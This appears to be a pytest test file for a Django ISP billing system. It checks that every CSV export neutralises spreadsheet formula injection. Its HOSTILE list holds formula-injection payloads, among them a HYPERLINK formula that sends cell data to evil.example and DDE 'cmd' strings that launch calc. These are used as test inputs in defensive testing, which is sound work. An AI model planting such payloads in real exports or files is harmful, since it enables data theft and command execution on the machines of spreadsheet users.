"""Every CSV we produce is written through ispbill/core/csvfiles.py, so no cell a person typed runs as a
formula in a spreadsheet program: the source is searched for any other CSV writer, and each CSV
download is fetched with hostile text in what it exports."""

import ast
import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from ispbill.core import csvfiles
from tests import structure

ROOT = structure.ROOT
PACKAGES = structure.packages()  # every package: a CSV made by the demo, the API or the wiring is opened in a spreadsheet too
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value, written", [
    *[(text, "'" + text) for text in HOSTILE],
    ("Rahim Uddin", "Rahim Uddin"), ("", ""), (None, ""), ("-250.00", "-250.00"), ("+8801711000000", "+8801711000000"),
    ("-", "'-"), ("+", "'+"), ("-5 taka", "'-5 taka"), ("1+1", "1+1"),
    (Decimal("-250.00"), Decimal("-250.00")), (-3, -3),
])
def test_a_cell_that_would_run_as_a_formula_gets_an_apostrophe_and_numbers_stay_numbers(value, written):
    assert csvfiles.cell(value) == written


def _calls_to_a_csv_writer(tree: ast.AST) -> list[int]:
    """Lines that make a csv writer: csv.writer(…), csv.DictWriter(…), or writer/DictWriter imported from csv."""
    found, imported = [], set()
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            imported |= {alias.asname or alias.name for alias in node.names if alias.name in ("writer", "DictWriter")}
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            if (isinstance(func, ast.Attribute) and func.attr in ("writer", "DictWriter")
                    and isinstance(func.value, ast.Name) and func.value.id == "csv"):
                found.append(node.lineno)
            elif isinstance(func, ast.Name) and func.id in imported:
                found.append(node.lineno)
    return found


def test_no_csv_is_written_but_through_the_safe_writer():
    offenders = []
    for relative, path in structure.source_files(*PACKAGES):
        if relative != "ispbill/core/csvfiles.py":
            offenders += [f"{relative}:{line}" for line in _calls_to_a_csv_writer(ast.parse(path.read_text(), relative))]
    assert not offenders, "write CSV through ispbill.core.csvfiles.writer: " + ", ".join(offenders)


def test_the_search_finds_a_csv_writer_written_any_way():
    source = "import csv\nfrom csv import DictWriter as W\ncsv.writer(f)\nW(f, [])\nx.writer(f)\n"
    assert _calls_to_a_csv_writer(ast.parse(source)) == [3, 4]


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV that a spreadsheet program would run as a formula."""
    return [value for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for value in row
            if value.startswith(csvfiles.FORMULA_STARTS) and csvfiles.cell(value) != value]


def _text(response) -> str:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8")


@pytest.fixture
def hostile_world(db):
    from tests.factories import AreaFactory, make_customer, make_subscription
    from tickets.services import ticket_create

    area = AreaFactory(name=HOSTILE[0])
    customers = [make_customer(name=text, address=HOSTILE[(i + 1) % len(HOSTILE)], area=area) for i, text in enumerate(HOSTILE)]
    make_subscription(customer=customers[0])
    for customer, text in zip(customers, HOSTILE, strict=True):
        ticket_create(actor=None, customer=customer, category="slow_speed", subject=text, description=text)
    return customers


def test_the_customer_list_export_neutralises_every_typed_formula(staff_client, hostile_world):
    text = _text(staff_client.get(reverse("staff:customer-export")))
    assert HOSTILE[1] in text.replace("'+", "+") and not formula_cells(text)


def test_the_export_of_everything_neutralises_every_typed_formula(staff_client, hostile_world):
    archive = zipfile.ZipFile(io.BytesIO(staff_client.get(reverse("staff:import-export")).content))
    for name in archive.namelist():
        text = archive.read(name).decode("utf-8")
        assert not formula_cells(text), name
    assert "'" + HOSTILE[2] in archive.read("customers.csv").decode("utf-8")
    assert "'" + HOSTILE[3] in archive.read("tickets.csv").decode("utf-8")


def test_the_import_error_report_neutralises_the_files_own_cells(staff_client, db):
    from imports.models import ImportBatch

    upload = io.StringIO()
    sheet = csv.writer(upload)
    sheet.writerow(["Name", "Mobile", "Address", "Area"])
    sheet.writerows([text, "017", text, "Nowhere"] for text in HOSTILE)
    content = upload.getvalue().encode()
    staff_client.post(reverse("staff:import-list"), {"file": SimpleUploadedFile("c.csv", content), "cutover_date": "2026-01-01"})
    batch = ImportBatch.objects.get()
    staff_client.post(reverse("staff:import-map", args=[batch.pk]),
                      {**{f"map_{k}": v for k, v in batch.mapping.items()}, "cutover_date": "2026-01-01"})

    text = _text(staff_client.get(reverse("staff:import-errors", args=[batch.pk])))

    cells = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert "'" + HOSTILE[0] in cells and not formula_cells(text)


def test_the_resellers_commission_statement_neutralises_typed_text(client, db):
    from resellers import services
    from tests.factories import make_customer
    from tests.resellers.helpers import make_reseller, owes

    reseller, area, _router, _package, admin = make_reseller(model="commission")
    services.commission_rule_add(actor=admin, reseller=reseller, percent=Decimal("10"))
    customer = make_customer(area=area, reseller=reseller)
    owes(customer, "500")  # commission is earned on money that pays invoices
    services.cash_collect(actor=None, reseller=reseller, customer=customer, amount=Decimal("500"), reference=HOSTILE[1])
    month = customer.payments.get().received_at.astimezone().date()
    client.force_login(reseller.user)

    text = _text(client.get(reverse("reseller:commission-csv", args=[month.year, month.month])))

    assert len(list(csv.reader(io.StringIO(text)))) >= 2 and not formula_cells(text)


def test_the_analytics_csv_writer_neutralises_labels_and_cells():
    from web.dashboard.views import _csv

    text = _text(_csv("x.csv", [HOSTILE[3], "mrr"], [[HOSTILE[0], Decimal("-5.00")], [HOSTILE[4], 3]]))
    assert not formula_cells(text) and "-5.00" in text
